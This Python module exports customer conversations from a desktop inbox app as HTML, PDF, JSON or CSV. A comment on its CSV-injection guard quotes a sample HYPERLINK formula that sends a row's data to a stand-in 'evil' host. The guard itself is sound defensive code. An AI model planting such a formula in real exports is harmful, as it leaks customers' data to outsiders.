"""Export a customer's history, one conversation, or a search result.

Formats: a self-contained HTML page (readable and printable, nothing loaded
from anywhere), PDF (the same page, printed by Qt), JSON (which reads back
into the same records) and CSV (one row per message). The page and the PDF
are for people: their words and dates come from ``PageWords`` (English here
and on the command line; the desktop app passes its language's). JSON and
CSV are for programs: English keys, ISO 8601 times.
"""

from __future__ import annotations

import csv
import html
import io
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, Literal

from desktop_inbox import APP_NAME, __version__
from desktop_inbox.errors import BadInput
from desktop_inbox.records import Direction, Kind, Platform, State
from desktop_inbox.services import destination
from desktop_inbox.store import contacts, conversations, search
from desktop_inbox.store.conversations import ConversationSummary, MessageView
from desktop_inbox.store.db import Cache
from desktop_inbox.text.html import text_to_html
from desktop_inbox.words import QT_TRANSLATE_NOOP, term

Format = Literal["html", "pdf", "json", "csv"]
FORMATS: tuple[str, ...] = ("html", "pdf", "json", "csv")
EXPORT_VERSION = 1


@dataclass(slots=True)
class ExportedConversation:
    summary: ConversationSummary
    messages: list[MessageView]


@dataclass(slots=True)
class ExportSet:
    title: str
    scope: dict[str, Any]
    conversations: list[ExportedConversation] = field(default_factory=list)
    generated_at: datetime = field(default_factory=lambda: datetime.now(UTC))
    subject: str = ""  # whose history, or the search (for a title in another language)

    @property
    def message_count(self) -> int:
        return sum(len(c.messages) for c in self.conversations)


# -- gathering (on the cache's reader thread) --------------------------------------


def _conversation(conversation_id: int) -> ExportedConversation:
    detail = conversations.get_conversation(conversation_id)
    return ExportedConversation(detail.summary, [m for m in detail.messages if not m.pending])


def gather_conversation(conversation_id: int) -> ExportSet:
    conv = _conversation(conversation_id)
    name = conv.summary.customer_name or conv.summary.customer_handle
    return ExportSet(f"Conversation with {name}", {"conversation": conversation_id}, [conv], subject=name)


def gather_contact(contact_id: int) -> ExportSet:
    detail = contacts.contact_detail(contact_id)
    convs = [_conversation(c.id) for c in sorted(detail.conversations, key=lambda c: c.last_message_at or datetime.min.replace(tzinfo=UTC))]
    return ExportSet(f"{detail.name}: the whole history", {"contact": contact_id}, convs, subject=detail.name)


def gather_query(query: str) -> ExportSet:
    """Every message the query finds (no cap), grouped by conversation."""
    parsed = search.parse(query)
    if parsed.empty:
        raise BadInput(QT_TRANSLATE_NOOP("Errors", "The search is empty."))
    hits: list[search.SearchHit] = []
    offset = 0
    while True:
        page = search.search(parsed, limit=1000, offset=offset)
        hits.extend(page)
        if len(page) < 1000:
            break
        offset += len(page)
    wanted: dict[int, set[int]] = {}
    for hit in hits:
        wanted.setdefault(hit.conversation_id, set()).add(hit.message_id)
    convs = []
    for conversation_id, ids in wanted.items():
        conv = _conversation(conversation_id)
        conv.messages = [m for m in conv.messages if m.id in ids]
        convs.append(conv)
    convs.sort(key=lambda c: c.messages[0].created_at if c.messages else datetime.min.replace(tzinfo=UTC))
    return ExportSet(f"Search: {query}", {"query": query}, convs, subject=query)


# -- formats ----------------------------------------------------------------------------


def to_json(export: ExportSet) -> str:
    data = {
        "format": "desktop-inbox-export",
        "version": EXPORT_VERSION,
        "generated_by": f"{APP_NAME} {__version__}",
        "generated_at": export.generated_at.isoformat(),
        "title": export.title,
        "scope": export.scope,
        "conversations": [
            {**c.summary.to_json(), "sort_key": c.summary.sort_key, "messages": [_message_json(m) for m in c.messages]}
            for c in export.conversations
        ],
    }
    return json.dumps(data, ensure_ascii=False, indent=2)


def _message_json(m: MessageView) -> dict[str, Any]:
    data = m.to_json()
    data["html"] = m.html
    return data


def _time(value: str | None) -> datetime | None:
    return datetime.fromisoformat(value.replace("Z", "+00:00")) if value else None


def from_json(text: str) -> ExportSet:
    """Read an export back into the same records."""
    data = json.loads(text)
    if data.get("format") != "desktop-inbox-export":
        raise BadInput(QT_TRANSLATE_NOOP("Errors", "This is not a Desktop Inbox export."))
    convs = []
    for c in data["conversations"]:
        summary = ConversationSummary(
            id=c["id"],
            account_id=c["account"]["id"],
            platform=Platform(c["platform"]),
            account_handle=c["account"]["handle"],
            kind=Kind(c["kind"]),
            state=State(c["state"]),
            contact_id=c["customer"]["id"],
            customer_identity_id=c["customer"]["identity_id"],
            customer_handle=c["customer"]["handle"],
            customer_name=c["customer"]["name"],
            last_message_at=_time(c["last_message_at"]),
            waiting_since=_time(c["waiting_since"]),
            snoozed_until=_time(c.get("snoozed_until")),
            unread_count=c["unread"],
            message_count=c["message_count"],
            snippet=c["snippet"],
            sort_key=c["sort_key"],
        )
        messages = [
            MessageView(
                id=m["id"],
                remote_id=m["remote_id"],
                direction=Direction(m["direction"]),
                author_handle=m["author"]["handle"],
                author_name=m["author"]["name"],
                text=m["text"],
                html=m.get("html", ""),
                visibility=m["visibility"],
                created_at=_time(m["created_at"]),  # type: ignore[arg-type]
                url=m["url"],
                attachments=tuple(m.get("attachments") or ()),
            )
            for m in c["messages"]
        ]
        convs.append(ExportedConversation(summary, messages))
    return ExportSet(data["title"], data["scope"], convs, _time(data["generated_at"]) or datetime.now(UTC))


CSV_COLUMNS = (
    "conversation_id", "platform", "kind", "customer_name", "customer_handle", "message_id", "remote_id",
    "direction", "author_name", "author_handle", "created_at", "visibility", "url", "text",
)


# A cell starting with one of these is a formula to a spreadsheet
# (OWASP, "CSV Injection"): a display name like =HYPERLINK("http://evil?"&A2,
# "Refund form") would be a live link that sends the row away.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> str:
    """``value`` as a CSV cell a spreadsheet shows as text, never runs."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(_FORMULA_START) else text


def to_csv(export: ExportSet) -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(CSV_COLUMNS)
    for c in export.conversations:
        for m in c.messages:
            row = [
                c.summary.id, c.summary.platform, c.summary.kind, c.summary.customer_name, c.summary.customer_handle,
                m.id, m.remote_id, m.direction, m.author_name, m.author_handle,
                m.created_at.isoformat(), m.visibility, m.url or "", m.text,
            ]
            writer.writerow([csv_cell(v) for v in row])
    return out.getvalue()


_CSS = """
body { font-family: -apple-system, "Segoe UI", "Noto Sans", "DejaVu Sans", sans-serif; margin: 2em auto; max-width: 46em;
       color: #1f1f1f; line-height: 1.45; }
h1 { font-size: 1.5em; margin-bottom: .2em; }
h2 { font-size: 1.15em; margin-top: 2em; border-bottom: 1px solid #ddd; padding-bottom: .2em; }
.meta { color: #666; font-size: .85em; }
.msg { border-radius: 8px; padding: .6em .8em; margin: .6em 0; background: #f1f3f5; page-break-inside: avoid; }
.msg.out { background: #e3efff; margin-left: 3em; }
.who { font-weight: 600; }
@media print { body { margin: 0; max-width: none; } a { color: inherit; } }
"""


def _english_heading(export: ExportSet) -> str:
    count = len(export.conversations)
    return (
        f"{export.message_count} messages in {count} conversation{'s' if count != 1 else ''} · "
        f"exported {export.generated_at.astimezone():%d %b %Y %H:%M} by {APP_NAME}"
    )


def _english_thread(c: ConversationSummary) -> str:
    kind = "direct messages" if c.kind == Kind.DIRECT else "public thread"
    return f"{c.customer_handle} · {kind} on {c.platform} with {c.account_handle}"


def _english_when(moment: datetime) -> str:
    return f"{moment.astimezone():%a %d %b %Y %H:%M}"


def _english_title(export: ExportSet) -> str:
    return export.title


@dataclass(frozen=True, slots=True)
class PageWords:
    """How an exported page words itself (plain text; the page escapes it).
    English by default, as the command line writes it."""

    lang: str = "en"
    title: Callable[[ExportSet], str] = _english_title
    heading: Callable[[ExportSet], str] = _english_heading  # counts, when, by whom
    thread: Callable[[ConversationSummary], str] = _english_thread  # whose, where, with which account
    when: Callable[[datetime], str] = _english_when  # a message's time


ENGLISH = PageWords()


def to_html(export: ExportSet, words: PageWords = ENGLISH) -> str:
    """One self-contained page: inline style, no scripts, nothing to fetch."""
    title = html.escape(words.title(export))
    parts = [
        f"<!doctype html><html lang='{html.escape(words.lang)}'><head><meta charset='utf-8'>",
        "<meta http-equiv='Content-Security-Policy' content=\"default-src 'none'; style-src 'unsafe-inline'\">",
        f"<title>{title}</title><style>{_CSS}</style></head><body>",
        f"<h1>{title}</h1>",
        f"<p class='meta'>{html.escape(words.heading(export))}</p>",
    ]
    for c in export.conversations:
        who = html.escape(c.summary.customer_name or c.summary.customer_handle)
        parts.append(f"<h2>{who} <span class='meta'>{html.escape(words.thread(c.summary))}</span></h2>")
        for m in c.messages:
            author = html.escape(m.author_name or m.author_handle)
            parts.append(
                f"<div class='msg {m.direction}'><span class='who'>{author}</span> "
                f"<span class='meta'>{html.escape(m.author_handle)} · {html.escape(words.when(m.created_at))} · "
                f"{html.escape(m.visibility)}</span><div>{text_to_html(m.text)}</div></div>"
            )
    parts.append("</body></html>")
    return "".join(parts)


# Prints an export's HTML page to PDF: (html, title) -> the PDF's bytes. Qt
# does it, so it lives in the front end (``ui.pdf``) and is handed in.
PdfRenderer = Callable[[str, str], bytes]


def write(
    export: ExportSet,
    fmt: str,
    path: Path,
    *,
    data_dir: Path,
    force: bool = False,
    pdf: PdfRenderer | None = None,
    words: PageWords = ENGLISH,
) -> Path:
    """Write ``export`` to ``path`` whole or not at all, never inside the data
    folder, and over an existing file only with ``force``."""
    if fmt not in FORMATS:
        raise BadInput(
            QT_TRANSLATE_NOOP("Errors", "The format is one of {join}, not {fmt!r}."), join=", ".join(FORMATS), fmt=fmt
        )
    if fmt == "pdf" and pdf is None:
        raise BadInput(QT_TRANSLATE_NOOP("Errors", "PDF export is not available here; choose html, json or csv."))
    dest = destination.check(path, data_dir=data_dir, force=force, what=term(QT_TRANSLATE_NOOP("Errors", "export")))
    if fmt == "pdf":
        assert pdf is not None
        data = pdf(to_html(export, words), words.title(export))
    elif fmt == "html":
        data = to_html(export, words).encode("utf-8")
    else:
        data = {"json": to_json, "csv": to_csv}[fmt](export).encode("utf-8")
    destination.write_atomically(dest, lambda tmp: tmp.write_bytes(data))
    return dest


class ExportService:
    def __init__(self, cache: Cache, *, pdf: PdfRenderer | None = None) -> None:
        self.cache = cache
        self.pdf = pdf

    @property
    def data_dir(self) -> Path:
        return self.cache.data_dir

    def check(self, path: Path | str, *, force: bool = False) -> Path:
        """Refuse at once a place the export may not go (before gathering)."""
        return destination.check(path, data_dir=self.data_dir, force=force, what=term(QT_TRANSLATE_NOOP("Errors", "export")))

    def write(self, export: ExportSet, fmt: str, path: Path, *, force: bool = False, words: PageWords = ENGLISH) -> Path:
        # On the caller's thread: printing to PDF needs Qt's (main) thread.
        return write(export, fmt, path, data_dir=self.data_dir, force=force, pdf=self.pdf, words=words)

    async def gather(
        self, *, contact: int | None = None, conversation: int | None = None, query: str | None = None
    ) -> ExportSet:
        chosen = [x for x in (contact, conversation, query) if x is not None]
        if len(chosen) != 1:
            raise BadInput(QT_TRANSLATE_NOOP("Errors", "Export one thing: a customer, a conversation or a search."))
        if contact is not None:
            return await self.cache.read(gather_contact, contact)
        if conversation is not None:
            return await self.cache.read(gather_conversation, conversation)
        assert query is not None
        return await self.cache.read(gather_query, query)
